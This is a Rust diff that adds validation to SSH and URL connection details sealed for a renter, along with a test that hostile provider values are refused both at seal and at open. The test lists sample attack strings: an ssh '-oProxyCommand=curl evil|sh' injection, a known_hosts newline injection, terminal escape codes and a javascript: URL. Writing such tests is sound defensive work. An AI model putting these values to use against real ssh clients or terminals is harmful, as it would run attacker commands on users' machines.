@@ -55,10 +55,68 @@ pub struct ConnectionDetails {
 }
 
 impl ConnectionDetails {
-    /// At least a host (for SSH) or a URL must be given.
+    /// The details are data the renter's tools will use, never commands: checked where they
+    /// are sealed and again where they are opened. At least a host (for SSH) or a URL; the
+    /// host a hostname or IP address, the user a POSIX user name, the port 1-65535, the host
+    /// key one OpenSSH public key line, the URL http(s) with a host; and no control
+    /// character anywhere (a newline or an escape sequence would rewrite the renter's
+    /// terminal or known_hosts file; a host or user starting with `-` would be an ssh option).
     pub fn validate(&self) -> Result<(), AccessError> {
+        let bad = |what: &str, why: &str| Err(AccessError::Malformed(format!("{what}: {why}")));
         if self.host.as_deref().is_none_or(str::is_empty) && self.url.as_deref().is_none_or(str::is_empty) {
-            return Err(AccessError::Malformed("connection details need a `host` or a `url`".into()));
+            return bad("connection details", "need a `host` or a `url`");
+        }
+        let fields = [
+            ("host", &self.host),
+            ("user", &self.user),
+            ("host_key", &self.host_key),
+            ("host_key_fingerprint", &self.host_key_fingerprint),
+            ("password", &self.password),
+            ("url", &self.url),
+            ("note", &self.note),
+        ];
+        for (name, value) in fields {
+            if value.as_deref().is_some_and(|v| v.chars().any(char::is_control)) {
+                return bad(name, "contains a control character");
+            }
+        }
+        if let Some(h) = &self.host {
+            if !is_host(h) {
+                return bad("host", "is not a hostname or IP address");
+            }
+        }
+        if let Some(u) = &self.user {
+            if !is_user_name(u) {
+                return bad("user", "is not a user name (letters, digits, `_`, `.`, `-`; not starting with `-`)");
+            }
+        }
+        if self.port == Some(0) {
+            return bad("port", "must be 1-65535");
+        }
+        if let Some(k) = &self.host_key {
+            check_published_ssh_key(k.as_bytes()).map_err(|e| AccessError::Malformed(format!("host_key: {e}")))?;
+        }
+        if let Some(f) = &self.host_key_fingerprint {
+            let ok = f.split_once(':').is_some_and(|(alg, body)| {
+                matches!(alg, "SHA256" | "MD5")
+                    && !body.is_empty()
+                    && body.chars().all(|c| c.is_ascii_alphanumeric() || "+/=:".contains(c))
+            });
+            if !ok {
+                return bad("host_key_fingerprint", "is not `SHA256:…`");
+            }
+        }
+        if let Some(url) = &self.url {
+            let host = url.strip_prefix("https://").or_else(|| url.strip_prefix("http://"));
+            let host = host.map(|rest| rest.split(['/', '?', '#']).next().unwrap_or(""));
+            let host = host.map(|h| h.rsplit_once('@').map_or(h, |(_, h)| h));
+            let host_only = host.map(|h| match h.strip_prefix('[') {
+                Some(v6) => v6.split(']').next().unwrap_or(""),
+                None => h.rsplit_once(':').map_or(h, |(h, _)| h),
+            });
+            if !host_only.is_some_and(is_host) || url.contains(char::is_whitespace) {
+                return bad("url", "is not an http:// or https:// address with a host");
+            }
         }
         Ok(())
     }
@@ -147,14 +205,20 @@ pub fn seal(
 ) -> Result<Vec<u8>, AccessError> {
     details.validate()?;
     let json = serde_json::to_vec(details).map_err(|e| AccessError::Malformed(e.to_string()))?;
+    seal_json(&json, rental, recipient, provider)
+}
+
+/// Seals already-serialised details (the checks are `seal`'s; tests use this to make the
+/// blob a careless or hostile provider could make, and check that `open` refuses it).
+fn seal_json(json: &[u8], rental: &Pubkey, recipient: &[u8; 32], provider: &Keypair) -> Result<Vec<u8>, AccessError> {
     let len = OVERHEAD + json.len();
     if len > SEALED_MAX {
         return Err(AccessError::TooLong(len));
     }
-    let signature = provider.sign_message(&signed_message(rental, recipient, &json));
+    let signature = provider.sign_message(&signed_message(rental, recipient, json));
     let mut plaintext = Vec::with_capacity(64 + json.len());
     plaintext.extend_from_slice(signature.as_ref());
-    plaintext.extend_from_slice(&json);
+    plaintext.extend_from_slice(json);
     let sealed = PublicKey::from(*recipient).seal(&mut OsRng, &plaintext).map_err(|_| AccessError::Tampered)?;
     let mut blob = Vec::with_capacity(len);
     blob.push(VERSION);
@@ -190,6 +254,30 @@ pub fn open(
     let details: ConnectionDetails = serde_json::from_slice(json).map_err(|e| AccessError::Malformed(e.to_string()))?;
     details.validate()?;
     Ok(details)
+}
+
+/// A hostname (letters, digits and `-` in dot-separated labels, none starting with `-`) or
+/// an IP address.
+fn is_host(h: &str) -> bool {
+    if h.parse::<std::net::IpAddr>().is_ok() {
+        return true;
+    }
+    !h.is_empty()
+        && h.len() <= 253
+        && h.trim_end_matches('.').split('.').all(|label| {
+            !label.is_empty()
+                && label.len() <= 63
+                && !label.starts_with('-')
+                && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
+        })
+}
+
+/// A POSIX portable user name (`[A-Za-z0-9._-]`, not starting with `-`), at most 32 bytes.
+fn is_user_name(u: &str) -> bool {
+    !u.is_empty()
+        && u.len() <= 32
+        && !u.starts_with('-')
+        && u.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
 }
 
 /// The SSH public key types a renter may publish.
@@ -253,6 +341,44 @@ pub fn check_published_ssh_key(bytes: &[u8]) -> Result<String, String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn provider_strings_that_would_be_commands_or_terminal_codes_are_refused_at_seal_and_open() {
+        let provider = Keypair::new();
+        let renter = AccessKey::from_wallet(&Keypair::new());
+        let rental = Pubkey::new_unique();
+        let ok = details();
+        assert!(ok.validate().is_ok());
+        let hostile = [
+            ConnectionDetails { host: Some("-oProxyCommand=curl evil|sh".into()), ..ok.clone() },
+            ConnectionDetails { host: Some("203.0.113.7 -oProxyCommand=x".into()), ..ok.clone() },
+            ConnectionDetails { user: Some("-oProxyCommand=x".into()), ..ok.clone() },
+            ConnectionDetails { user: Some("root\nssh-rsa AAAA".into()), ..ok.clone() },
+            ConnectionDetails {
+                host_key: Some(format!("{}\n[evil]:22 ssh-ed25519 AAAA", ok.host_key.clone().unwrap())),
+                ..ok.clone()
+            },
+            ConnectionDetails { host_key: Some("not a key".into()), ..ok.clone() },
+            ConnectionDetails { note: Some("fine \u{1b}]0;owned\u{7}".into()), ..ok.clone() },
+            ConnectionDetails { url: Some("javascript:alert(1)".into()), ..ok.clone() },
+            ConnectionDetails { url: Some("https://-x/".into()), ..ok.clone() },
+            ConnectionDetails { password: Some("pw\u{1b}[2J".into()), ..ok.clone() },
+            ConnectionDetails { host_key_fingerprint: Some("SHA256:abc\u{1b}[1m".into()), ..ok.clone() },
+            ConnectionDetails { port: Some(0), ..ok.clone() },
+        ];
+        for d in hostile {
+            let e = seal(&d, &rental, &renter.recipient(), &provider).unwrap_err();
+            assert!(matches!(e, AccessError::Malformed(_)), "{d:?} sealed: {e:?}");
+            // A provider that skips the check still cannot get them past the renter's open.
+            let blob = seal_json(&serde_json::to_vec(&d).unwrap(), &rental, &renter.recipient(), &provider).unwrap();
+            let e = open(&blob, &rental, &renter.recipient(), &provider.pubkey(), &renter).unwrap_err();
+            assert!(matches!(e, AccessError::Malformed(_)), "{d:?} opened: {e:?}");
+        }
+        for url in ["http://203.0.113.7:8888/lab?token=abc", "https://[2001:db8::1]:8443/", "https://gpu.example.com"] {
+            assert!(ConnectionDetails { url: Some(url.into()), ..ok.clone() }.validate().is_ok(), "{url}");
+        }
+        assert!(ConnectionDetails { host: Some("2001:db8::7".into()), ..ok.clone() }.validate().is_ok());
+    }
 
     #[test]
     fn published_ssh_keys_are_installed_only_when_exactly_normalised() {
